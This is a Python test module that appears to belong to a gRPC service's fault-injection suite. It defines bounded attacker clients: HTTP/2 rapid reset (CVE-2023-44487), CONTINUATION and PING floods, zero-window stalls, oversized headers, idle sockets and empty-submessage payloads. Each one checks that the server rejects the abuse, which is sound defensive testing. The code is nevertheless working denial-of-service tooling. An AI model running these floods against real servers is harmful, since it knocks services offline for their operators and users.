"""Clients with a certificate of the mesh that mean ill, each in a process of its own:

    python -m tests.faults.attackers NAME ADDRESS FOLDER

FOLDER holds their key.pem and chain.pem. Every one of them is bounded in count and in time, and prints one
JSON object that says what came of it. That the server throws them out is no error of theirs.
"""

import contextlib
import json
import select
import socket
import ssl
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import grpc
from hpack import Encoder
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame

from hauberk.protos.shop.catalog.v1 import catalog_pb2
from tests.interceptors.raw_http2 import Ended, RawConnection, message, tls

CATALOG = "/shop.catalog.v1.Catalog"
GET, LIST, RESERVE = f"{CATALOG}/GetProduct", f"{CATALOG}/ListProducts", f"{CATALOG}/ReserveStock"
VICTIM = "catalog.shop.test"
"""The name in its certificate."""
FRAME = 16384
MIB = 1024 * 1024
CLOSED = (OSError, Ended)

Told = dict[str, Any]


class Attacker:
    """Whose certificate it is, and whom it is after."""

    def __init__(self, address: str, folder: Path) -> None:
        self.address = address
        self._key, self._chain, self._roots = (
            (folder / name).read_bytes() for name in ("key.pem", "chain.pem", "bundle.pem")
        )
        with tempfile.TemporaryDirectory() as held:
            self._tls = tls(Path(held), self._key, self._chain, version=ssl.TLSVersion.TLSv1_3)

    def connect(self, *, window: int | None = None) -> RawConnection:
        return RawConnection(self.address, self._tls, window=window)

    def channel(self) -> grpc.Channel:
        """A channel of stock gRPC, which obeys the server's flow control."""
        return grpc.secure_channel(
            self.address,
            grpc.ssl_channel_credentials(self._roots, self._key, self._chain),
            options=[("grpc.ssl_target_name_override", VICTIM)],
        )

    def dial(self) -> socket.socket:
        host, _, port = self.address.rpartition(":")
        return socket.create_connection((host, int(port)), timeout=10)


def rapid_reset(attacker: Attacker) -> Told:
    """10,000 calls on one connection, each taken back at once (CVE-2023-44487)."""
    sent = 0
    with attacker.connect() as connection, contextlib.suppress(*CLOSED):
        headers = _headers(GET)
        for first in range(1, 20_001, 200):
            frames = [_call(stream, headers) + _reset(stream) for stream in range(first, first + 200, 2)]
            connection.write(b"".join(frames))
            sent += 100
        time.sleep(0.5)
    return {"sent": sent}


def silent_sockets(attacker: Attacker) -> Told:
    """500 connections that begin no handshake."""
    sockets = [attacker.dial() for _ in range(500)]
    began = time.monotonic()
    time.sleep(1.0)
    early = sum(map(_is_open, sockets))
    while any(map(_is_open, sockets)) and time.monotonic() - began < 12:
        time.sleep(0.1)
    took = time.monotonic() - began
    left = sum(map(_is_open, sockets))
    for each in sockets:
        each.close()
    return {"open_after_1_s": early, "left": left, "seconds": round(took, 2)}


def large_metadata(attacker: Attacker) -> Told:
    """60 calls with 4 MiB of headers each, from a client that never acknowledges the server's SETTINGS."""
    opened = 0
    value = b"x" * (4 * MIB)
    block = _headers(GET) + b"\x10\x03big\x7f" + _varint(len(value) - 127) + value
    began = time.monotonic()
    with attacker.connect() as connection, contextlib.suppress(*CLOSED):
        for stream in range(1, 121, 2):
            connection.write(b"".join(_header_block(stream, block)))
            opened += 1
        while time.monotonic() - began < 10:
            connection.discard()
    return {"opened": opened, "seconds": round(time.monotonic() - began, 2)}


def no_message(attacker: Attacker) -> Told:
    """100 unary calls that end without a message, then 150 that neither end nor send one."""
    with attacker.connect() as connection:
        for _ in range(100):
            connection.open(GET, ends=True)
        ended = Counter(_statuses(connection, 1.0))
    with attacker.connect() as one, attacker.connect() as two:
        for connection in (one, two):
            for _ in range(75):
                connection.open(GET)
        refused = Counter(_statuses(one, 1.0)) + Counter(_statuses(two, 1.0))
    return {"ended": ended, "refused": refused}


def zero_window(attacker: Attacker) -> Told:
    """20 clients that read nothing: of each a stream and two single replies."""
    return _unread(attacker, [(LIST, b""), (GET, _ask("SOLD-1")), (GET, _ask("SOLD-1"))])


def zero_window_large(attacker: Attacker) -> Told:
    """20 clients that read nothing, of each 20 replies of 4 MiB."""
    return _unread(attacker, [(GET, _ask("LARGE"))] * 20)


def _ask(sku: str) -> bytes:
    return catalog_pb2.GetProductRequest(sku=sku).SerializeToString()


def _unread(attacker: Attacker, calls: list[tuple[str, bytes]]) -> Told:
    with contextlib.ExitStack() as stack:
        connections = []
        for _ in range(20):  # over a second: it is not for the burst
            connections.append(stack.enter_context(attacker.connect(window=0)))
            for path, request in calls:
                connections[-1].send(connections[-1].open(path), message(request))
            time.sleep(0.05)
        time.sleep(0.5)
        statuses: Counter[str] = Counter()
        for connection in connections:  # before the server closes those that answer no ping
            statuses += Counter(_statuses(connection, 0.05))
        time.sleep(1.5)
    return {"refused": statuses}


def continuation_flood(attacker: Attacker) -> Told:
    """64 MiB of headers in CONTINUATION frames that never end."""
    sent = 0
    frame = ContinuationFrame(1)
    frame.data = (b"\x10\x03big\x7f" + _varint(16000 - 127) + b"x" * 16000)[:FRAME]
    flood = frame.serialize()
    first = HeadersFrame(1)
    first.data = _headers(GET)
    with attacker.connect() as connection, contextlib.suppress(*CLOSED):
        connection.write(first.serialize())
        for _ in range(64 * MIB // len(frame.data)):
            connection.write(flood)
            sent += len(frame.data)
        time.sleep(0.5)
    return {"sent": sent}


def ping_flood(attacker: Attacker) -> Told:
    """20,000 PINGs on one connection; whether the server put up with it."""
    sent = 0
    ping = PingFrame(0, opaque_data=b"hauberk!").serialize()
    with attacker.connect() as connection:
        try:
            for _ in range(200):
                connection.write(ping * 100)
                sent += 100
            while True:
                connection.frame(within=2.0)
        except TimeoutError:
            return {"sent": sent, "closed": False}
        except CLOSED as error:
            return {"sent": sent, "closed": True, "how": str(error)}


def empty_parts(attacker: Attacker) -> Told:
    """Messages of nothing but empty sub-messages: 40 of 4 MiB, then 200 that are let in by their size."""
    told: Counter[str] = Counter()
    with attacker.channel() as channel:
        reserve: Any = channel.unary_unary(RESERVE)
        for size, count in ((4 * MIB, 40), (64 * 1024, 200)):
            for first in range(0, count, 20):
                calls = [
                    reserve.future(b"\x12\x00" * (size // 2), timeout=4) for _ in range(first, first + 20)
                ]
                for call in calls:
                    told[f"{size}: {call.code().name} {call.details()}"] += 1
    return {"told": told}


def _headers(path: str) -> bytes:
    """The headers of a call, without a table that both sides would have to keep."""
    return bytes(
        Encoder().encode(
            [
                (b":method", b"POST", True),
                (b":scheme", b"https", True),
                (b":path", path.encode(), True),
                (b":authority", b"server.mesh.test", True),
                (b"te", b"trailers", True),
                (b"content-type", b"application/grpc", True),
            ]
        )
    )


def _call(stream: int, headers: bytes) -> bytes:
    frame = HeadersFrame(stream, flags=["END_HEADERS"])
    frame.data = headers
    return frame.serialize()


def _reset(stream: int) -> bytes:
    return RstStreamFrame(stream, error_code=8).serialize()


def _header_block(stream: int, block: bytes) -> Iterator[bytes]:
    for start in range(0, len(block), FRAME):
        frame = ContinuationFrame(stream) if start else HeadersFrame(stream)
        frame.data = block[start : start + FRAME]
        if start + FRAME >= len(block):
            frame.flags.add("END_HEADERS")
        yield frame.serialize()


def _varint(value: int) -> bytes:
    """The rest of an HPACK integer whose prefix was full (RFC 7541 section 5.1)."""
    octets = bytearray()
    while value > 127:
        octets.append(value % 128 + 128)
        value //= 128
    return bytes([*octets, value])


def _statuses(connection: RawConnection, within: float) -> list[str]:
    """Of every call that was answered within so many seconds, how."""
    found = []
    ends = time.monotonic() + within
    with contextlib.suppress(*CLOSED):
        while (left := ends - time.monotonic()) > 0:
            trailers = connection.next_trailers(within=left)
            found.append(trailers.get("grpc-status", b"none").decode())
    return found


def _is_open(each: socket.socket) -> bool:
    readable, _, _ = select.select([each], [], [], 0)
    if not readable:
        return True
    with contextlib.suppress(OSError):
        return bool(each.recv(1, socket.MSG_PEEK))
    return False


ATTACKS: dict[str, Callable[[Attacker], Told]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        silent_sockets,
        large_metadata,
        no_message,
        zero_window,
        zero_window_large,
        continuation_flood,
        ping_flood,
        empty_parts,
    )
}

if __name__ == "__main__":
    name, address, folder = sys.argv[1:]
    print(json.dumps(ATTACKS[name](Attacker(address, Path(folder)))))
